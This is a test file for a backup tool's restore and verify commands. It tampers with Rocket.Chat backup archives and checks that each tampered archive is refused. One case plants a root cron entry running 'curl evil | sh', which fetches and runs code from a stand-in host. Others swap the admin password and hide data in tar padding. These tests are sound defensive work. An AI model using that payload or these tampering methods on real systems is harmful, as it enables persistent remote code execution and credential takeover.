import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BACKUP_FORMAT, type BackupHeader, type BackupManifest } from '../../src/core/backup.js';
import { membersOf, packed, type TarMember } from '../helpers/backup-digest.js';
import { FAKE_TIME, fakeInstall, wizardAt, writeBackup, writeHostState } from '../helpers/backup-host.js';
import { tmpRoot } from '../helpers/tmp.js';

/**
 * A backup recorded with its digest, then tampered with the way an attacker who can write the backup folder would:
 * `wizard restore` and `wizard backup verify` refuse each with exit 2 and the reason, and nothing is left in place
 * (no unpacked folder, no data dir, the state as it was).
 */

const wizard = wizardAt;

const header: BackupHeader = {
  format: BACKUP_FORMAT,
  kind: 'backup',
  wizard: '0.1.0',
  createdAt: FAKE_TIME,
  install: fakeInstall,
  contents: { files: ['/opt/rocketchat/.env'], folders: ['data'], volumes: [] },
};

const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');

/** A host with the install in its state and one backup the real writer wrote, recorded as `record` says. */
async function host(record: (w: { digest: string; file: string }) => Record<string, unknown>) {
  const root = tmpRoot();
  const src = join(root, 'src');
  mkdirSync(join(src, 'data/photos'), { recursive: true });
  writeFileSync(join(src, '.env'), 'ADMIN_PASS=secret\n');
  writeFileSync(join(src, 'data/photos/photo.bin'), Buffer.alloc(70_000, 0x5a), { mode: 0o644 });
  writeFileSync(join(src, 'data/notes.txt'), 'hello\n', { mode: 0o640 });
  mkdirSync(join(root, 'srv/backups'), { recursive: true });
  const file = join(root, 'srv/backups/rocketchat-20261122-030000-8.0.1.tar');
  const w = await writeBackup(file, header, [
    { kind: 'file', name: 'files/opt/rocketchat/.env', path: join(src, '.env') },
    { kind: 'tree', name: 'folders/data', path: join(src, 'data') },
  ]);
  writeHostState(root, [
    {
      file,
      size: w.size,
      install: 'rocketchat',
      platform: 'rocketchat',
      release: '8.0.1',
      kind: 'backup',
      createdAt: FAKE_TIME,
      ...record({ digest: w.digest, file }),
    },
  ]);
  return { root, file, digest: w.digest };
}

/** Rewrites the archive's members (with the wizard's own encoder), the manifest kept or made to match. */
function repack(file: string, change: (ms: TarMember[]) => TarMember[], fixManifest: boolean) {
  const ms = change(membersOf(file));
  if (fixManifest) {
    const m = ms.find((x) => x.header.name === 'manifest.json') as TarMember;
    const manifest = JSON.parse(m.content.toString('utf8')) as BackupManifest;
    manifest.members = ms
      .filter((x) => x.header.name !== 'manifest.json')
      .map((x) =>
        x.header.type === 'dir'
          ? { path: x.header.name, type: 'dir' as const, size: 0 }
          : { path: x.header.name, type: 'file' as const, size: x.content.length, sha256: sha(x.content) },
      );
    m.content = Buffer.from(JSON.stringify(manifest));
  }
  writeFileSync(file, packed(ms));
}

const PHOTO = 'folders/data/photos/photo.bin';
const member = (ms: TarMember[], name: string) => ms.find((m) => m.header.name === name) as TarMember;
const DIGEST_MISMATCH =
  /its digest is sha256-members-v1:[0-9a-f]{64}, not the sha256-members-v1:[0-9a-f]{64} recorded when the wizard wrote it \(altered, or another file\)/;

const attacks: [string, (file: string) => void, RegExp][] = [
  [
    "a byte flipped inside a member's data",
    (file) => {
      const b = readFileSync(file);
      const at = b.indexOf(Buffer.alloc(64, 0x5a)) + 30_000;
      b[at] = 0x5b;
      writeFileSync(file, b);
    },
    /folders\/data\/photos\/photo\.bin does not match its SHA-256 in the manifest \(altered or damaged\)/,
  ],
  [
    'a member appended after the end',
    (file) => {
      const extra = packed([
        {
          header: {
            name: 'files/etc/cron.d/evil',
            type: 'file',
            size: 0,
            mode: 0o644,
            uid: 0,
            gid: 0,
            mtime: 0,
          },
          content: Buffer.from('* * * * * root sh -c "curl evil | sh"\n'),
        },
      ]);
      writeFileSync(file, Buffer.concat([readFileSync(file), extra]));
    },
    /has \d+ bytes after its end \(appended data\)/,
  ],
  [
    "a member's mode changed in its header (world-writable)",
    (file) =>
      repack(
        file,
        (ms) => {
          member(ms, PHOTO).header.mode = 0o666;
          return ms;
        },
        false,
      ),
    DIGEST_MISMATCH,
  ],
  [
    "a member's name changed in its header, the manifest made to match",
    (file) =>
      repack(
        file,
        (ms) => {
          member(ms, 'folders/data/notes.txt').header.name = 'folders/data/notes.tx2';
          return ms;
        },
        true,
      ),
    DIGEST_MISMATCH,
  ],
  [
    "a member's name changed, the manifest left",
    (file) =>
      repack(
        file,
        (ms) => {
          member(ms, 'folders/data/notes.txt').header.name = 'folders/data/notes.tx2';
          return ms;
        },
        false,
      ),
    /folders\/data\/notes\.tx2 is in the archive but not in its manifest/,
  ],
  [
    'a member removed, and from the manifest',
    (file) => repack(file, (ms) => ms.filter((m) => m.header.name !== 'folders/data/notes.txt'), true),
    DIGEST_MISMATCH,
  ],
  [
    'a member changed and the manifest edited to match it',
    (file) =>
      repack(
        file,
        (ms) => {
          member(ms, 'files/opt/rocketchat/.env').content = Buffer.from('ADMIN_PASS=attacker\n');
          return ms;
        },
        true,
      ),
    DIGEST_MISMATCH,
  ],
  [
    'data hidden in the padding after a member',
    (file) => {
      const b = readFileSync(file);
      // notes.txt is 6 bytes: the 506 bytes after them pad its block.
      const at = b.indexOf('hello\n') + 6;
      b.write('hidden', at);
      writeFileSync(file, b);
    },
    /has data hidden in the padding after folders\/data\/notes\.txt/,
  ],
  [
    'a truncated archive',
    (file) => writeFileSync(file, readFileSync(file).subarray(0, 40_000)),
    /is truncated \(it ends early\)/,
  ],
];

const leftovers = (root: string) => (existsSync(join(root, 'opt')) ? readdirSync(join(root, 'opt')) : []);

describe('a recorded backup, tampered: restore and verify refuse it (exit 2, the reason), nothing left in place', () => {
  it('untampered, it verifies (the digest as recorded)', async () => {
    const { root, file, digest } = await host((w) => ({ digest: w.digest }));
    const v = wizard(['backup', 'verify', file], root);
    expect(v.stdout).toContain(`✔ digest        ${digest} as recorded`);
    expect(v.code).toBe(0);
    const list = wizard(['backup', 'list', '--json'], root);
    expect(JSON.parse(list.stdout).backups[0].digest).toBe(digest);
  });

  for (const [what, tamper, reason] of attacks)
    it(what, async () => {
      const { root, file } = await host((w) => ({ digest: w.digest }));
      tamper(file);
      const state = readFileSync(join(root, 'var/lib/wizard/state.json'), 'utf8');
      const r = wizard(['restore', file, '--yes'], root);
      expect(r.stderr).toMatch(reason);
      expect(r.stderr).toContain('Nothing was changed.');
      expect(r.code).toBe(2);
      // The unpacked folder is gone; the data dir was never made; the state is as it was.
      expect(leftovers(root)).toEqual([]);
      expect(readFileSync(join(root, 'var/lib/wizard/state.json'), 'utf8')).toBe(state);
      const v = wizard(['backup', 'verify', file], root);
      expect(v.code).toBe(2);
      expect(`${v.stdout}${v.stderr}`).toMatch(
        reason === DIGEST_MISMATCH
          ? /✖ digest +digest sha256-members-v1:[0-9a-f]{64} is not the sha256-members-v1:[0-9a-f]{64} recorded when it was written: altered/
          : reason,
      );
      expect(readdirSync(join(root, 'var/lib/wizard')).filter((f) => f.startsWith('verify-'))).toEqual([]);
    });

  it('a digest given with --digest (a new server) is checked the same way', async () => {
    const { root, file, digest } = await host(() => ({ digest: undefined }));
    repack(
      file,
      (ms) => {
        member(ms, PHOTO).header.uid = 2000;
        return ms;
      },
      false,
    );
    const r = wizard(['restore', file, '--yes', '--digest', digest], root);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/its digest is sha256-members-v1:[0-9a-f]{64}, not the .* given with --digest/);
    expect(leftovers(root)).toEqual([]);
    const bad = wizard(['restore', file, '--yes', '--digest', 'sha256:abc'], root);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('--digest sha256:abc is not a backup digest');
  });
});

describe('backups recorded before the digest (the SHA-256 of the whole file) are still checked, the old way', () => {
  it('an untampered one verifies; altered, restore refuses it', async () => {
    const { root, file } = await host((w) => ({ sha256: sha(readFileSync(w.file)) }));
    const v = wizard(['backup', 'verify', file], root);
    expect(v.stdout).toMatch(
      /✔ digest +SHA-256 [0-9a-f]{64} of the whole file as recorded \(an older backup/,
    );
    expect(v.code).toBe(0);
    repack(
      file,
      (ms) => {
        member(ms, PHOTO).header.mode = 0o666;
        return ms;
      },
      false,
    );
    const r = wizard(['restore', file, '--yes'], root);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(
      /its SHA-256 is [0-9a-f]{64}, not the [0-9a-f]{64} recorded when the wizard wrote it \(altered, or another file\)/,
    );
    expect(leftovers(root)).toEqual([]);
    const v2 = wizard(['backup', 'verify', file], root);
    expect(v2.code).toBe(2);
    expect(v2.stdout).toMatch(/✖ digest +SHA-256 [0-9a-f]{64} is not the [0-9a-f]{64} recorded/);
  });
});
